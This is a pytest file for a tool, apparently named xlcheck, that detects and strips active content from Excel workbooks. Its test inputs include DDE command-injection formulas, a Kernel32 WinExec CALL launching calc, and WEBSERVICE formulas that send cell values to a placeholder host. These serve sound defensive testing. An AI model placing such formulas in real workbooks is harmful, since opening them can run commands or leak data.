"""What acts by itself in a workbook is found, and a copy without it is a sound workbook with the same values."""

import openpyxl
import pytest
import xlsxwriter
import xlwt
from python_calamine import CalamineWorkbook

from tests.excel.packages import (
    BOOK_RELATIONS,
    SHEET,
    SHEET_RELATIONS,
    TYPES,
    _link,
    assert_sound,
    cells_of,
    changed,
    pack,
    parts_of,
    write_rich,
)
from xlcheck.excel.patch.disarm import disarmed_copy
from xlcheck.excel.read.active import ActiveKind, active_things, calls_outside, is_of_sheets

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("https://example.org/?"&A1)',
        '_xlfn.WEBSERVICE("https://example.org/")',
        '_xlfn.FILTERXML(_xlfn.WEBSERVICE(A1),"//a")',
        'FILTERXML("https://example.org/","//a")',
        "cmd|' /C calc'!A0",
        "'cmd'|'/c calc'!'A0'",
        'DDE("cmd";"/C calc";"x")',
        'RTD("示例",,"a")',
        "[1]名录!A1",
        "'[示例 2021.xlsx]名录 甲'!$A$1",
        "'file:///c:/示例/[甲.xlsx]名录'!A1",
        "[1]!名称",
        'HYPERLINK("https://example.org/?"&A1,"请点")',
        'IF(A1="",1,webservice(A1))',
        '_xlfn.IMAGE("https://example.org/a.png")',
        'CALL("Kernel32","WinExec","JCJ","calc",0)',
    ],
)
def test_formula_that_calls_outside_is_known(formula):
    assert calls_outside(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A9)",
        "VLOOKUP(A1,名录!A:C,3,FALSE)",
        'IF(A1="WEBSERVICE(x)","a|b!c","[1]x!")',
        "Table1[[#This Row],[数量]]*2",
        "SUM(Table1[数量])+名录!A1",
        'HYPERLINK("#名录!A1","转到")',
        'HYPERLINK("https://example.org/","网站")',
        "MYCALL(A1)",
        '"A"&"|"&B1&"!"',
    ],
)
def test_formula_within_the_book_is_no_call__ok(formula):
    assert not calls_outside(formula)


@pytest.fixture
def hostile(tmp_path):
    """A workbook with one of each: calls in cells, a rule and a name, a link, an object, a control, macros."""
    path = write_rich(tmp_path / "来件.xlsm")
    parts = parts_of(path)
    row = (
        '<row r="20"><c r="A20" t="str"><f>_xlfn.WEBSERVICE("https://example.org/?"&amp;B1)</f><v>结果</v></c>'
        '<c r="B20"><f t="shared" ref="B20:B21" si="7">[1]名录!A1</f><v>5</v></c></row>'
        '<row r="21"><c r="B21"><f t="shared" si="7"/><v>6</v></c>'
        "<c r=\"C21\"><f><![CDATA[cmd|' /C calc'!A0]]></f><v>7</v></c></row></sheetData>"
    )
    objects = (
        f'<oleObjects xmlns:r="{OFFICE}"><oleObject progId="Package" shapeId="1" r:id="ole1"/></oleObjects>'
        f'<controls xmlns:r="{OFFICE}"><control shapeId="2" r:id="ax1"/></controls>'
    )
    sheet = parts[SHEET].decode().replace("</sheetData>", row)
    sheet = sheet.replace("<tableParts", f"{objects}<tableParts").replace("<formula1>", "<formula1>", 1)
    parts[SHEET] = sheet.encode()
    for name, kind, target in (
        ("ole1", "oleObject", "embeddings/oleObject1.bin"),
        ("ax1", "control", "activeX/activeX1.xml"),
    ):
        new = f'<Relationship Id="{name}" Type="{OFFICE}/{kind}" Target="../{target}"/></Relationships>'
        parts[SHEET_RELATIONS] = parts[SHEET_RELATIONS].replace(b"</Relationships>", new.encode())
    parts["xl/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0"
    parts["xl/activeX/activeX1.xml"] = b"<ocx/>"
    parts["xl/activeX/activeX1.bin"] = b"ax"
    parts["xl/connections.xml"] = b"<connections/>"
    _link(parts, BOOK_RELATIONS, f"{OFFICE}/connections", "connections.xml")
    parts[TYPES] = parts[TYPES].replace(
        b"</Types>",
        b'<Override PartName="/xl/connections.xml" ContentType="application/x-c"/></Types>',
    )
    name = '<definedNames><definedName name="暗">WEBSERVICE(名录!$A$1)</definedName>'
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"<definedNames>", name.encode())
    return pack(path, parts)


def test_each_kind_is_found_with_its_place(hostile):
    things = active_things(hostile)
    assert {thing.kind for thing in things} == set(ActiveKind)
    cells = [(thing.sheet, thing.cell) for thing in things if thing.cell]
    assert cells == [("名录", "A20"), ("名录", "B20"), ("名录", "C21")]
    assert "名称“暗”" in {thing.what for thing in things}
    assert not is_of_sheets(things)


def test_copy_holds_none_of_it_and_keeps_the_rest(hostile, tmp_path):
    out = tmp_path / "副本.xlsm"
    disarmed_copy(hostile, out)
    assert active_things(out) == ()
    assert_sound(out)
    before, after = parts_of(hostile), parts_of(out)
    kept = {"xl/drawings/drawing1.xml", "xl/comments1.xml", "xl/media/image1.png"} & set(before)
    assert kept
    assert kept <= set(after)
    assert not [n for n in after if "vba" in n.lower() or "activeX" in n or "embeddings" in n or "externalLink" in n]
    cells, given = cells_of(after[SHEET]), cells_of(before[SHEET])
    assert cells["A20"] == '<c r="A20" t="str"><v>结果</v></c>'.encode()
    assert (cells["B20"], cells["B21"], cells["C21"]) == (
        b'<c r="B20"><v>5</v></c>',
        b'<c r="B21"><v>6</v></c>',
        b'<c r="C21"><v>7</v></c>',
    )
    assert {n: c for n, c in cells.items() if n not in ("A20", "B20", "B21", "C21")} == {
        n: c for n, c in given.items() if n not in ("A20", "B20", "B21", "C21")
    }
    assert b"<oleObject" not in after[SHEET]
    assert b"<control " not in after[SHEET]
    rows = CalamineWorkbook.from_path(str(out)).get_sheet_by_name("名录").to_python(skip_empty_area=False)
    assert rows[19][:2] == ["结果", 5]


def test_rule_that_calls_outside_is_found_and_replaced(tmp_path):
    path = tmp_path / "来件.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet("名录")
        sheet.write("A1", 1)
        sheet.data_validation("B1", {"validate": "custom", "value": '=WEBSERVICE("https://example.org/"&A1)=1'})
        sheet.conditional_format("C1", {"type": "formula", "criteria": '=WEBSERVICE("https://example.org/"&A1)=1'})
    assert [thing.sheet for thing in active_things(path)] == ["名录", "名录"]
    out = tmp_path / "副本.xlsx"
    disarmed_copy(path, out)
    assert active_things(out) == ()
    assert_sound(out)
    assert openpyxl.load_workbook(out)["名录"].data_validations.dataValidation[0].formula1 == "#REF!"


def test_book_without_anything_of_it__ok(tmp_path):
    path = tmp_path / "来件.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet("名录")
        sheet.write_formula("A1", "=SUM(B1:B9)")
        sheet.write_url("A2", "https://example.org/")
    assert active_things(path) == ()


def test_formula_in_a_part_of_another_encoding_is_found(tmp_path):
    path = tmp_path / "来件.xlsx"
    with xlsxwriter.Workbook(path) as book:
        book.add_worksheet("名录").write_formula("A1", '=WEBSERVICE("https://example.org/")')

    def wide(sheet: bytes) -> bytes:
        return sheet.decode().replace("UTF-8", "UTF-16").encode("utf-16")

    changed(path, sheet=wide)
    assert [thing.cell for thing in active_things(path)] == ["A1"]
    out = tmp_path / "副本.xlsx"
    disarmed_copy(path, out)
    assert active_things(out) == ()


def test_picture_that_is_fetched_from_outside_is_fetched_no_more(tmp_path):
    path = write_rich(tmp_path / "来件.xlsm")
    parts = parts_of(path)
    drawing, relations = "xl/drawings/drawing1.xml", "xl/drawings/_rels/drawing1.xml.rels"
    assert b"r:embed=" in parts[drawing]
    parts[drawing] = parts[drawing].replace(b'r:embed="', b'r:link="out1" r:embed="', 1)
    outside = (
        f'<Relationship Id="out1" Type="{OFFICE}/image" Target="https://example.org/a.png" TargetMode="External"/>'
    )
    parts[relations] = parts[relations].replace(b"</Relationships>", outside.encode() + b"</Relationships>")
    out = tmp_path / "副本.xlsm"
    disarmed_copy(pack(path, parts), out)
    after = parts_of(out)
    assert b"r:link" not in after[drawing]
    assert b"r:embed=" in after[drawing]
    assert b"example.org/a.png" not in after[relations]
    assert b"macro=" not in after[drawing] or b'macro=""' in after[drawing]
    assert_sound(out)


def test_macros_in_a_workbook_of_an_old_format_are_found(tmp_path):
    path = tmp_path / "来件.xls"
    book = xlwt.Workbook()
    book.add_sheet("示例").write(0, 0, "示例")
    book.save(path)
    assert active_things(path) == ()
    path.write_bytes(path.read_bytes() + "_VBA_PROJECT_CUR".encode("utf-16-le") + bytes(480))
    assert [thing.kind for thing in active_things(path)] == [ActiveKind.MACRO]


def test_macro_sheet_is_found_and_no_copy_is_made_of_it(tmp_path):
    path = write_rich(tmp_path / "来件.xlsm")
    things = active_things(pack(path, {**parts_of(path), "xl/macrosheets/sheet1.xml": b"<macrosheet/>"}))
    assert is_of_sheets(things)
